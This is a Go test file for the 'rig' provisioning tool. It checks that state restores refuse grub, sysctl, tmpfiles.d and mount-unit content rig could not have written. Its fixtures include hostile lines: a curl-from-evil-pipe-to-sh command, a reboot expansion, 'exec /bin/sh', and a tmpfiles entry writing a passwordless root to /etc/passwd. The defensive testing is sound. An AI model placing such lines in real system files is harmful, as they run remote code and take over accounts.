package system

import (
	"encoding/json"
	"path/filepath"
	"testing"

	"rig/hugepages"
	"rig/internal/testutil"
	"rig/internal/testutil/hugetest"
	"rig/playbooks"
	"rig/provision"
	"rig/provision/steptest"
)

// A state file whose "before" content for one of rig's own drop-ins is not
// what rig's format could have held (a shell command in grub's drop-in, a
// line that is no sysctl, a tmpfiles.d line that writes /etc/passwd, a
// mount unit with an ExecStart) is refused before anything is written.
func TestDownRefusesForeignDropInContent(t *testing.T) {
	grubEvil := renderDropIn([]string{"quiet"}) + "$(curl -s http://evil | sh)\n"
	cases := []struct{ name, record, field, path string }{
		{"grub drop-in with a command", fileRec("kernel", grubDropIn, grubEvil), "kernel.files[0].content", grubDropIn},
		{"grub parameter expanding a command", fileRec("kernel", grubDropIn, renderDropIn([]string{"quiet", "x=$(reboot)"})), "kernel.files[0].content", "which the shell that reads the file interprets"},
		{"sysctl drop-in with a foreign line", fileRec("kernel", sysctlDropIn, renderSysctl([]string{"vm.swappiness"}, map[string]string{"vm.swappiness": "60"})+"exec /bin/sh\n"), "kernel.files[0].content", `"exec /bin/sh"`},
		{"tmpfiles line writing /etc/passwd", fileRec("hugepages", hugepages.TmpfilesPath, "w /etc/passwd - - - - root::0:0\n"), "hugepages.files[0].content", "/etc/passwd"},
		{"mount unit with ExecStart", fileRec("hugepages", "/etc/systemd/system/dev-hugepages.mount", "[Service]\nExecStart=/bin/sh -c evil\n"), "hugepages.files[0].content", "not the mount unit rig writes"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			k := hugetest.NewFakeKernel(t, 2048, []int64{2048}, []int{0})
			for p, body := range map[string]string{"/proc/cmdline": "ro quiet\n", "/proc/sys/vm/swappiness": "60\n", "/boot/grub/grub.cfg": grubCfg("ro quiet")} {
				k.Put(p, body)
			}
			kd, rec, sf := kernelDownOn(t, k.Root, &playbooks.KernelSpec{Sysctl: map[string]string{"vm.swappiness": "10"}})
			hd := hpStep(t, k, &playbooks.HugepagesSpec{Pages: []playbooks.HugepageReservation{{Size: "2M", Count: 8}}, Mounts: []playbooks.HugetlbfsMount{{Path: "/dev/hugepages"}}, Persist: true}).Down(provision.DownOptions{})
			body := testutil.PlantState(t, sf, `{"version": 1, `+c.record+`}`)
			rep := execute(t, provision.RunApply, hd, kd)
			var bad provision.StepResult
			for _, res := range rep.Steps {
				if res.Status == provision.StatusFailed {
					bad = res
				}
			}
			steptest.WantRefused(t, bad, sf, c.field, c.path, "rig restores into its own drop-in only what it could have written there")
			fileIs(t, sf, string(body))
			if len(k.Writes) != 0 || len(rec.Lines()) != 0 {
				t.Fatalf("writes %q, tools run %q", k.Writes, rec.Lines())
			}
		})
	}
}

// What rig itself writes passes, each drop-in in its own format.
func TestDropInBeforeFormatsAcceptRigsOwn(t *testing.T) {
	for p, content := range map[string]string{
		grubDropIn:   renderDropIn([]string{"hugepagesz=1G", "hugepages=4", "iommu=pt", "intel_iommu=on"}),
		sysctlDropIn: renderSysctl([]string{"net.core.rmem_max", "vm.swappiness"}, map[string]string{"vm.swappiness": "10", "net.core.rmem_max": "4194304"}),
	} {
		if why := kernelBeforeWhy(p, content); why != "" {
			t.Errorf("%s: rig's own content refused: %s\n%s", p, why, content)
		}
	}
	mounts := []hugepages.WantMount{{Path: "/dev/hugepages", PageSizeKB: 2048}, {Path: "/mnt/huge1G", PageSizeKB: 1048576}}
	files := hugepages.PersistFiles([]hugepages.Reservation{{SizeKB: 2048, Node: hugepages.AllNodes, Count: 512}, {SizeKB: 1048576, Node: 0, Count: 2}}, mounts)
	for _, f := range files {
		if why := hugepagesBeforeWhy(f.Path, f.Content, []int64{2048, 1048576}, []hugepages.WantMount{{Path: "/dev/hugepages"}, {Path: "/mnt/huge1G"}}); why != "" {
			t.Errorf("%s: rig's own content refused: %s\n%s", f.Path, why, f.Content)
		}
	}
	if len(files) != 3 {
		t.Fatalf("files: %+v", files)
	}
}

func fileRec(step, path, content string) string {
	b, _ := json.Marshal(content)
	return `"` + step + `": {"files": [{"path": "` + filepath.Clean(path) + `", "existed": true, "content": ` + string(b) + `}]}`
}
